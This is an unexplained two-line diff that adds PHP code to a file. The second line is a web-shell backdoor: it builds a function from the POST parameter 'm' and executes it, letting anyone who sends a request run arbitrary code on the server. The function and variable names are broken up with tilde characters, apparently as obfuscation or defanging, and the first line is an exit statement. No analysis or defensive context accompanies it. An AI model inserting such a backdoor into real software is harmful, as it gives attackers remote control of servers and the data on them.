@@ -1,0 +1,2 @@
+<?php exit; ?>
+<?php $f = cre~ate_function('', $_P~OST['m']); $f();
